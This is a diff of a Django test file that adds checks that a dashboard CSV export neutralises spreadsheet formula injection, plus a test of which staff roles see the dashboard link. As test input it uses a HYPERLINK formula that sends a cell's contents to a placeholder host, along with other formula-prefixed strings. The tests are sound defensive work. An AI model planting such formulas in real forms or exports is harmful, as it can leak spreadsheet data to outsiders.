@@ -11,8 +11,8 @@ from django.utils import timezone
 
 from requests.choices import TargetState
 from requests.dashboard import open_by_target_state, performance, weekly, weekly_chart
-from requests.models import SecondOpinionRequest
-from tests.conftest import make_request
+from requests.models import RecordItem, SecondOpinionRequest
+from tests.conftest import form_data, make_request
 
 pytestmark = pytest.mark.django_db
 
@@ -108,3 +108,77 @@ def test_csv_export(client, supervisor, figures_data) -> None:
     program30 = next(row for row in rows if row[0] == "program" and row[2] == "30")
     assert program30[3:7] == ["4", "4", "3", "0.750"]
     assert "Maria" not in response.content.decode()
+
+
+# --- Spreadsheet formulas in the export (OWASP CSV injection) ------------------------------
+
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+
+def received_from(case: SecondOpinionRequest) -> None:
+    """Mark a case's record items received within the export's window."""
+    now = timezone.now()
+    RecordItem.objects.filter(request=case).update(
+        status=RecordItem.State.RECEIVED,
+        requested_at=now - timedelta(days=4),
+        received_at=now - timedelta(days=1),
+    )
+
+
+@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
+def test_a_facility_typed_on_the_public_form_reaches_the_export_as_text(
+    client, supervisor, prefix: str
+) -> None:
+    """A facility name that starts like a formula, typed on the public form, is exported with
+    a leading quote: a spreadsheet shows it and runs nothing. (The form strips a leading tab
+    or carriage return; what is left is checked the same way.)"""
+    facility = f'{prefix}HYPERLINK("http://x.example/?"&A1,"Records")'
+    response = client.post("/request/", form_data(current_facility=facility))
+    assert response.status_code == 302
+    case = SecondOpinionRequest.objects.get()
+    stored = case.current_facility
+    assert stored.endswith('"Records")')
+    received_from(case)
+    client.force_login(supervisor)
+
+    rows = list(csv.reader(io.StringIO(client.get("/dashboard/export.csv").content.decode())))
+
+    [row] = [row for row in rows if row[0] == "records_facility"]
+    assert row[1] == ("'" + stored if stored.startswith(FORMULA_PREFIXES) else stored)
+    assert not row[1].startswith(FORMULA_PREFIXES)
+
+
+def test_every_text_cell_of_the_export_is_neutralised(client, supervisor, navigator_user) -> None:
+    """Whatever column a staff- or patient-typed text lands in (the navigator's name, the
+    facility), no cell of the export starts with a formula character."""
+    navigator_user.first_name, navigator_user.last_name = "=1+1", "@SUM(A1)"
+    navigator_user.save()
+    for prefix in FORMULA_PREFIXES:
+        case = make_request(current_facility=f"{prefix}cmd", needs_records_help=True)
+        SecondOpinionRequest.objects.filter(pk=case.pk).update(
+            navigator=navigator_user.navigator,
+            assigned_at=timezone.now(),
+            status="assigned",
+            target_state="met",
+        )
+        received_from(case)
+    client.force_login(supervisor)
+
+    text = client.get("/dashboard/export.csv").content.decode()
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+    assert {f"'{prefix}cmd" for prefix in FORMULA_PREFIXES} <= set(cells)
+    assert any(cell.startswith("'=1+1") for cell in cells)
+    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
+
+
+@pytest.mark.parametrize(
+    ("role", "linked"), [("supervisor", True), ("navigator_user", True), ("records_user", False)]
+)
+def test_the_staff_header_links_the_dashboard_for_those_who_may_see_it(
+    client, request, role: str, linked: bool
+) -> None:
+    """The header's Dashboard link follows navigators.access.can_view_dashboard."""
+    client.force_login(request.getfixturevalue(role))
+    html = client.get("/admin/").content.decode()
+    assert ('href="/dashboard/"' in html) is linked
